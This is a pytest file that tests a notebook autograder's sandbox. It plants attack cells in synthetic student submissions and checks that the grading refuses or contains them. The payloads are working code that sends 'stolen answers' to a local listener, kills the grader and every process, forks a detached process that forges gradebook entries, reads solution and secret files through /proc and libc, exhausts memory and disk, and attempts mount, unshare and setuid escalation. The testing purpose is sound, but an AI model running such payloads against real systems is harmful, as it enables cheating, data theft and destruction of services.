"""The operating-system half of the cheat corpus: attacks on the grader's machine, graded as one class.

Every attacker hands in the complete solution of question 1 with one cell added right after
the setup cell: a ``class`` whose body (run when the class is defined, so grading keeps it)
attacks. One honest student is graded alongside, ``-j 2``. The attacks that leave the kernel
running must cost nothing (question 1 in full); those that end it (an endless loop with
signals blocked, a disk filled, ``os._exit``) end it before any part is graded (0). Every
attacker's feedback names what was refused or hit, nothing outside the sandbox changes, the
host's listeners receive nothing, and nothing an attacker started outlives the run.
"""

from __future__ import annotations

import csv
import hashlib
import os
import socket
import textwrap
import threading
import time
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest

from grading import sandbox, synthetic
from grading.executor import Limits
from grading.runner import ROOT, Options, grade

Q1 = "hw08-q01.ipynb"
SECRET = "the instructor's secret 7a3b"
LIMITS = Limits(student_cell_seconds=15, cell_seconds=300, notebook_seconds=900)
RESOURCES = sandbox.Resources(memory_bytes=2 * 2**30, file_bytes=64 * 2**20, folder_bytes=256 * 2**20)
MARKER = f"hw08-survivor-{os.getpid()}"

#: name -> (the attack, whether it ends the kernel, words its feedback must hold)
ATTACKS: dict[str, tuple[str, bool, str]] = {
    "net-tcp": (
        """
        import socket
        socket.create_connection(("127.0.0.1", {tcp_port}), timeout=5).sendall(b"stolen answers\\n")
        """,
        False,
        "network access refused in a cell you added",
    ),
    "net-udp": (
        """
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen answers", ("127.0.0.1", {udp_port}))
        """,
        False,
        "network access refused in a cell you added",
    ),
    "kills-the-grader": (
        """
        import os, signal
        for target in (os.getppid(), {grader_pid}, -1):
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
        """,
        False,
        "",
    ),
    "survivor": (
        """
        import os, sys
        code = '''
        import time
        for _ in range(600):
            for path in ({gradebook!r}, {submissions!r} + "/planted.txt"):
                try:
                    with open(path, "w") as handle:
                        handle.write("forged,100")
                except OSError:
                    pass
            time.sleep(0.2)
        '''
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", code, {marker!r}])
            os._exit(0)
        """,
        False,
        "",
    ),
    "writes-outside": (
        """
        import ctypes, os
        libc = ctypes.CDLL(None)
        refused = []
        for path in ({submissions!r} + "/honest/planted.txt", {submissions!r} + "/planted.txt", {out!r} + "/planted.txt",
                     {root!r} + "/planted.txt", {home!r} + "/planted.txt"):
            try:
                open(path, "w").write("planted")
            except OSError as error:
                refused.append(error)
            if libc.open(path.encode(), os.O_WRONLY | os.O_CREAT, 0o644) >= 0:
                os._exit(7)  # planted: the kernel dies, and the test sees it
        raise refused[0]
        """,
        False,
        "refused: write",
    ),
    "reads-solutions": (
        """
        import ctypes, os
        libc = ctypes.CDLL(None)
        for path in ({solution!r}, {honest!r}, {secret!r}):
            for variant in (path, "/proc/self/root" + path, "/proc/1/root" + path):
                try:
                    open(variant).read()
                    os._exit(7)  # leaked
                except OSError:
                    pass
                try:
                    folder = os.open("/", os.O_RDONLY)
                    os.read(os.open(variant.lstrip("/"), os.O_RDONLY, dir_fd=folder), 40)
                    os._exit(7)
                except OSError:
                    pass
                if libc.open(variant.encode(), 0) >= 0:
                    os._exit(7)
        open({solution!r})
        """,
        False,
        "refused: read",
    ),
    "kills-every-pid": (
        """
        import os, signal
        own = {{int(thread) for thread in os.listdir("/proc/self/task")}}  # (a thread's id kills its process)
        for pid in range(2, 2**16):
            if pid not in own:
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        """,
        False,
        "",
    ),
    "memory": ("block = bytearray(6 * 2**30)\nblock[::4096] = b'x' * len(block[::4096])", False, "memory limit 2 GB"),
    "forks": (
        """
        import os, time
        children = []
        try:
            for _ in range(40):
                pid = os.fork()
                if pid == 0:
                    time.sleep(5)
                    os._exit(0)
                children.append(pid)
        finally:
            for pid in children:
                os.waitpid(pid, 0)
        """,
        False,
        "process limit",
    ),
    "big-file": (
        """
        with open("big.bin", "wb") as handle:
            for _ in range(256):
                handle.write(bytes(8 * 2**20))
        """,
        False,
        "file size limit (64 MB per file) reached",
    ),
    "fills-the-disk": (
        """
        import itertools, os
        for number in itertools.count():
            with open(f"part{{number}}.bin", "wb") as handle:
                handle.write(bytes(32 * 2**20))
        """,
        True,
        "disk space limit",
    ),
    "busy-loop-signals-blocked": (
        """
        import signal
        signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
        for name in ("SIGINT", "SIGALRM", "SIGTERM"):
            signal.signal(getattr(signal, name), signal.SIG_IGN)
        while True:
            pass
        """,
        True,
        "time limit 15 s: a cell you added ran over it and was killed",
    ),
    "exits": ("import os\nos._exit(0)", True, "the kernel died while running a cell you added (exit code 0)"),
    "escalates": (
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) == 0 or libc.unshare(0x10000000) == 0:
            os._exit(7)
        try:
            os.setuid(0)
            os._exit(7)
        except PermissionError:
            pass
        """,
        False,
        "",
    ),
}

#: Children that each stay under the per-process limit, and together go over it: capped where the
#: kernel's processes share one memory group (the grader is root and may make one).
CHILDREN_MEMORY = (
    """
    import os, time
    children = []
    for _ in range(3):
        pid = os.fork()
        if pid == 0:
            block = bytearray(3 * 2**28)
            block[::4096] = b"x" * len(block[::4096])
            time.sleep(1)
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
    """,
    False,
    "memory limit 2 GB reached in a cell you added by the kernel and the processes it started",
)
if sandbox.memory_groups():
    ATTACKS["memory-in-children"] = CHILDREN_MEMORY


def test_the_kernels_processes_share_one_memory_limit_where_the_grader_may_make_one() -> None:
    if not sandbox.memory_groups():
        pytest.skip("no memory cgroup can be made here (not root, or no writable memory hierarchy)")
    assert "memory-in-children" in ATTACKS


def attacking(full: nbformat.NotebookNode, code: str) -> nbformat.NotebookNode:
    nb = nbformat.reads(nbformat.writes(full), as_version=4)
    first = next(i for i, cell in enumerate(nb.cells) if cell.cell_type == "code")
    body = textwrap.indent(textwrap.dedent(code).strip("\n"), "    ")
    nb.cells.insert(first + 1, nbformat.v4.new_code_cell(f"class _Attack:\n{body}\n"))
    return nb


def checksums(folder: Path) -> dict[str, str]:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}


def survivors() -> list[str]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if MARKER.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(pid)
        except OSError:
            pass
    return found


class Listener:
    """A TCP and a UDP listener on 127.0.0.1 that record whatever reaches them."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        for server in (self.tcp, self.udp):
            server.settimeout(0.2)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.listen, daemon=True)
        self.thread.start()

    def listen(self) -> None:
        while not self.stop.is_set():
            try:
                connection, _ = self.tcp.accept()
                self.received.append(connection.recv(100) or b"(a connection)")
            except OSError:
                pass
            try:
                self.received.append(self.udp.recv(100))
            except OSError:
                pass

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.tcp.close()
        self.udp.close()


@pytest.fixture(scope="session")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> SimpleNamespace:
    base = tmp_path_factory.mktemp("attacks")
    secret = base / "secret.txt"
    secret.write_text(SECRET)
    submissions, out = base / "submissions", base / "out"
    full = synthetic.notebooks()[Q1][1]
    synthetic.write(submissions / "honest", {Q1: full})
    listener = Listener()
    values = {
        "tcp_port": listener.tcp.getsockname()[1],
        "udp_port": listener.udp.getsockname()[1],
        "grader_pid": os.getpid(),
        "gradebook": str(out / "gradebook.csv"),
        "submissions": str(submissions),
        "out": str(out),
        "root": str(ROOT),
        "home": os.path.expanduser("~"),
        "solution": str(ROOT / "notebooks" / Q1),
        "honest": str(submissions / "honest" / Q1),
        "secret": str(secret),
        "marker": MARKER,
    }
    for name, (code, _, _) in ATTACKS.items():
        synthetic.write(submissions / name, {Q1: attacking(full, code.format(**values))})
    before = {**checksums(submissions), **checksums(ROOT / "notebooks")}
    try:
        students = grade(submissions, out, Options(jobs=2, limits=LIMITS, resources=RESOURCES, progress=False))
        left = survivors()
        gradebook = (out / "gradebook.csv").read_bytes()
        time.sleep(1.0)  # what a survivor would write, it would have written by now
    finally:
        listener.close()
    with open(out / "gradebook.csv", newline="", encoding="utf-8") as handle:
        rows = {row["student"]: row for row in csv.DictReader(handle)}
    return SimpleNamespace(
        students={s.name: s for s in students},
        rows=rows,
        out=out,
        submissions=submissions,
        received=listener.received,
        survivors=left,
        gradebook=gradebook,
        before=before,
        after={**checksums(submissions), **checksums(ROOT / "notebooks")},
        values=values,
    )


def test_the_run_finishes_with_every_student_and_the_honest_one_in_full(attacked: SimpleNamespace) -> None:
    assert sorted(attacked.rows) == sorted(["honest", *ATTACKS])
    honest = attacked.students["honest"]
    q1 = {pid: r for pid, r in honest.part_results().items() if pid.startswith("1.")}
    assert all(r.passed for r in q1.values()), {pid: r.message for pid, r in q1.items()}
    assert attacked.rows["honest"]["status_q01"] == "ok"
    assert "refused" not in attacked.rows["honest"]["reason"] and "limit" not in attacked.rows["honest"]["reason"]


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_each_attacker_scores_what_its_honest_parts_deserve_and_is_told_what_was_refused(
    attacked: SimpleNamespace, name: str
) -> None:
    _, fatal, words = ATTACKS[name]
    row = attacked.rows[name]
    honest_q1 = attacked.rows["honest"]["Q1"]
    assert row["Q1"] == ("0" if fatal else honest_q1), row["reason"]
    assert row["status_q01"] == ("timeout" if "time limit" in words else "crashed" if fatal else "ok"), row["reason"]
    assert words in row["reason"]
    feedback = (attacked.out / "feedback" / f"{name}.md").read_text(encoding="utf-8")
    assert words in feedback
    assert SECRET not in feedback


def test_nothing_outside_the_sandbox_changed_and_nothing_reached_the_host(attacked: SimpleNamespace) -> None:
    assert attacked.before == attacked.after
    for folder in (attacked.submissions, attacked.out, ROOT, Path(attacked.values["home"])):
        assert not (folder / "planted.txt").exists()
    assert not (attacked.submissions / "honest" / "planted.txt").exists()
    assert attacked.received == []


def test_no_process_of_a_kernel_outlives_the_run(attacked: SimpleNamespace) -> None:
    assert attacked.survivors == []
    assert (attacked.out / "gradebook.csv").read_bytes() == attacked.gradebook
    assert b"forged" not in attacked.gradebook
